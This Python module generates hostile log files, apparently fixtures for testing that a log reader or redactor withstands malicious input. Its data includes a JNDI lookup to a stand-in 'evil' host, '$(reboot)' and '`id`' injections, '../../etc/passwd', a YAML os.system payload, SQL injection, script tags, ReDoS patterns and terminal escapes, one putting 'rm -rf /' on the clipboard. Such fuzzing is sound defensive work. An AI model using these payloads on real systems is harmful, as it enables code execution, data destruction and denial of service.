"""Logs as somebody writes them who wants to harm whoever reads them."""

import random

MIB = 1024 * 1024
# Rules that are slow on purpose; `engine: re` is what an RE2 pattern cannot be.
BOMB_PACK = r"""
- {name: bomb, match: '(a+)+$', engine: re, event: bomb.re}
- {name: bombs, match: '(?:a?){64}a{64}b', event: bomb.set}
- {name: stairs, match: 'a.*b.*c.*d.*e', event: bomb.stairs}
- {name: echo, match: 'x(?P<text>.*)y(?P<instance>.*)z', event: bomb.echo, tier: alert}
"""
# What terminals obey: to clear, move, recolour, rename, report, print, be asked.
ESCAPES = (
    b"\x1b[2J\x1b[H",
    b"\x1b[31;5m",
    b"\x1b]0;renamed\x07",
    b"\x1b]52;c;cm0gLXJmIC8=\x07",
    b"\x1b]8;;http://evil.example.org\x1b\\link",
    b"\x1b[6n\x1b[c",
    b"\x1b[5i\x1bP$q\x1b\\",
    b"\x9b31m\x9d0;x\x9c",
    b"\xc2\x9b31m",
    b"\x08\x08\x7f\r\x0b\x0c\x0e\x0f\x05",
    "\u202egnp.exe\u202c\u200f\u2066\u2028\u2029".encode(),
)


def names() -> tuple[str, ...]:
    """Return all kinds of hostile logs."""
    return tuple(_MAKERS)


def hostile(name: str, size_bytes: int) -> bytes:
    """Return such a log of about that size, the same each time."""
    return _MAKERS[name](random.Random(name), size_bytes)


def lines_in(data: bytes) -> int:
    """Return how many lines a reader must find."""
    return data.count(b"\n")


def _nuls(rng: random.Random, size_bytes: int) -> bytes:
    """Holes of sparse files and broken disks."""
    return b"".join(
        bytes(rng.choice((1, 100, 70_000))) + b"sshd\0[1]: x\n"
        for _ in range(max(1, size_bytes // 23_000))
    )


def _megabytes(rng: random.Random, size_bytes: int) -> bytes:
    heads = (
        b"a",
        b"password=",
        b"Nov 21 12:00:00 web1 sshd[1]: Failed password for ",
        b'2024/03/03 08:14:07 [error] 8#8: *1 open() "',
        b"ab c",
    )
    count = max(1, size_bytes // MIB)
    return b"".join(rng.choice(heads) + b"a" * MIB + b"\n" for _ in range(count))


def _endless(_: random.Random, size_bytes: int) -> bytes:
    return b"a" * size_bytes + b"\n"


def _random(rng: random.Random, size_bytes: int) -> bytes:
    """Bytes of every kind: hardly any of it is UTF-8."""
    return rng.randbytes(size_bytes) + b"\n"


def _half_utf8(rng: random.Random, size_bytes: int) -> bytes:
    parts = (b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf5\x80", b"\xc0\xaf", b"\xe2\x82")
    made = (b"x" + rng.choice(parts) * 20 + b"y z" for _ in range(size_bytes // 60))
    return b"\n".join(made) + b"\n"


def _escapes(rng: random.Random, size_bytes: int) -> bytes:
    heads = (b"x", b"Nov 21 12:00:00 web1 sshd[1]: Invalid user ", b"peep: ")
    made = (
        rng.choice(heads) + b"y".join(rng.choices(ESCAPES, k=4)) + b"z"
        for _ in range(size_bytes // 80)
    )
    return b"\n".join(made) + b"\n"


def _bombs(rng: random.Random, size_bytes: int) -> bytes:
    made = (
        rng.choice((b"a", b"ab", b"abcd", b"x y ")) * rng.choice((10, 400, 4000)) + b"!"
        for _ in range(size_bytes // 3000)
    )
    return b"\n".join(made) + b"\n"


def _near_secrets(rng: random.Random, size_bytes: int) -> bytes:
    """What is much work to redact."""
    words = (
        b"password for ",
        b'"password":"',
        b"user ",
        b"://a:b",
        b"invalid user ",
        b"echo a | ",
        b"mysql -",
        b"eyJhbGciO.",
    )
    made = (rng.choice(words) * rng.choice((5, 300)) for _ in range(size_bytes // 1400))
    return b"\n".join(made) + b"\n"


def _empty(_: random.Random, size_bytes: int) -> bytes:
    return b"\n" * size_bytes


def _alerts(_: random.Random, size_bytes: int) -> bytes:
    """Each line an alert, which must be kept on the disk."""
    return b"x a y b z\n" * (size_bytes // 10)


def _forged(rng: random.Random, size_bytes: int) -> bytes:
    """What looks like configuration, formats, paths and code."""
    made = (
        b"%s %n {0.__class__} ${jndi:ldap://evil/a} $(reboot) `id` ../../etc/passwd",
        b"!!python/object/apply:os.system ['reboot']",
        b"'; DROP TABLE signals; --",
        b'{"t":"\xff","__proto__":{"a":1}}',
        b"<script>alert(1)</script><!--",
        b"Nov 21 12:00:00 $(id) %s[%d]: x",
    )
    picked = rng.choices(made, k=size_bytes // 50)
    return b"\n".join(b"x" + line + b"y z" for line in picked) + b"\n"


_MAKERS = {
    "NULs": _nuls,
    "megabyte lines": _megabytes,
    "a line without end": _endless,
    "random bytes": _random,
    "broken UTF-8": _half_utf8,
    "escape sequences": _escapes,
    "regex bombs": _bombs,
    "near secrets": _near_secrets,
    "empty lines": _empty,
    "alerts": _alerts,
    "forged words": _forged,
}
